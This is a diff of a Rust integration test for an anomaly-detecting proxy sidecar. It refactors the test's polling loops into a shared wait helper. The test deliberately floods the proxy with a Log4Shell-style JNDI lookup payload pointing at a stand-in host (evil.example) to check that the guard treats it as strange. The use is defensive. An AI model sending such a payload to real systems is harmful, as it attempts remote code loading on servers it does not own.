@@ -18,7 +18,7 @@ use hyper::{Method, Response, StatusCode};
 use serde_json::{Value, json};
 use serin_integration::shop::{Shops, VERSION_HEADER};
 use serin_integration::topology::{AccessLog, SidecarProcess, Topology};
-use serin_integration::{http, one_at_a_time};
+use serin_integration::{LONGEST, http, one_at_a_time, wait_until};
 use std::net::SocketAddr;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
@@ -31,8 +31,6 @@ const CLIENTS: u32 = 24;
 const STRANGER: &str = "10.9.9.9";
 /// It is answered 200 like any other: only its query tells.
 const STRANGE: &str = "/api/products/7?id=${jndi:ldap://evil.example/a}";
-/// Longest wait for anything; it ends as soon as what is waited for is there.
-const PATIENCE: Duration = Duration::from_secs(180);
 
 async fn ask(
     address: SocketAddr,
@@ -111,34 +109,28 @@ impl Crowd {
 
     /// Waits until so many further ordinary requests were answered, and gives their percentiles.
     async fn next(&self, count: usize) -> Result<Vec<f64>> {
-        self.percentiles.lock().unwrap().clear();
-        let start = Instant::now();
-        loop {
-            let found = self.percentiles.lock().unwrap().clone();
-            if found.len() >= count {
-                return Ok(found);
-            }
-            ensure!(start.elapsed() < PATIENCE, "{} of {count}", found.len());
-            sleep(Duration::from_millis(50)).await;
-        }
+        let percentiles = || self.percentiles.lock().unwrap();
+        percentiles().clear();
+        wait_until("answers to many clients", async || {
+            Ok(percentiles().len() >= count)
+        })
+        .await?;
+        Ok(percentiles().clone())
     }
 }
 
 /// Asks again and again until `enough`.
 async fn wait_for_probe(topology: &Topology, enough: impl Fn(f64) -> bool) -> Result<f64> {
-    let start = Instant::now();
-    loop {
-        let found = probe(topology).await?;
-        if enough(found) {
-            return Ok(found);
-        }
-        ensure!(
-            start.elapsed() < PATIENCE,
-            "percentile {found}; log:\n{}",
-            topology.front.log_tail()
-        );
-        sleep(Duration::from_millis(250)).await;
-    }
+    let mut found = f64::NAN;
+    wait_until("percentile", async || {
+        // Seldom, so that the stranger stays one.
+        sleep(Duration::from_millis(150)).await;
+        found = probe(topology).await?;
+        Ok(enough(found))
+    })
+    .await
+    .with_context(|| format!("percentile {found}; log:\n{}", topology.front.log_tail()))?;
+    Ok(found)
 }
 
 fn surprising(mode: &str) -> Value {
@@ -173,13 +165,15 @@ async fn what_one_client_floods_with_stays_strange_until_several_ask_for_it() ->
     let flood = Instant::now();
     let mut sent = 0;
     while flood.elapsed() < Duration::from_secs(8) || sent < 400 {
-        ensure!(flood.elapsed() < PATIENCE, "only {sent} were sent");
+        ensure!(flood.elapsed() < LONGEST, "only {sent} were sent");
         let mut requests = JoinSet::new();
         for _ in 0..8 {
             let address = topology.address();
             requests.spawn(async move { ask(address, Method::GET, STRANGE, STRANGER, &[]).await });
         }
         sent += requests.join_all().await.iter().flatten().count();
+        // The others have to get through, too, where the machine is slow.
+        sleep(Duration::from_millis(10)).await;
     }
     let after = probe(&topology).await?;
     assert!(after > 99.5, "{sent} of one client made it usual: {after}");
@@ -192,10 +186,8 @@ async fn what_one_client_floods_with_stays_strange_until_several_ask_for_it() ->
     let labels = [("destination", "shop"), ("version", "v1")];
     topology
         .front
-        .wait_for_metrics("the histogram", PATIENCE, |metrics| {
-            metrics
-                .value("serin_surprise_count", &labels)
-                .is_some_and(|count| count > 400.0)
+        .wait_for_metrics("histogram", |metrics| {
+            metrics.value("serin_surprise_count", &labels) > Some(400.0)
         })
         .await?;
     drop(crowd);
@@ -237,19 +229,18 @@ async fn what_a_guard_finds_too_strange_is_answered_by_stable_for_safe_methods_o
     let _crowd = Crowd::start(topology.address());
     let sidecar = topology.sidecar_address().context("no sidecar")?;
     let first = [("x-envoy-attempt-count", "1")];
-    let start = Instant::now();
     // Half of what the front sends goes to the guard first, and stable answers that, too. The first
     // ones are at the border: little past is no ground for a high percentile.
     let mut by_stable = 0;
-    while by_stable < 20 {
+    wait_until("20 in a row by stable", async || {
         let answer = ask(topology.address(), Method::GET, STRANGE, STRANGER, &[]).await?;
         match header(&answer, VERSION_HEADER) {
             Some("v1") => by_stable += 1,
             _ => by_stable = 0,
         }
-        ensure!(start.elapsed() < PATIENCE, "{by_stable} in a row by stable");
-        sleep(Duration::from_millis(100)).await;
-    }
+        Ok(by_stable >= 20)
+    })
+    .await?;
     let refused = ask(sidecar, Method::GET, STRANGE, STRANGER, &first).await?;
     assert_eq!(refused.status(), StatusCode::SERVICE_UNAVAILABLE);
     assert_eq!(
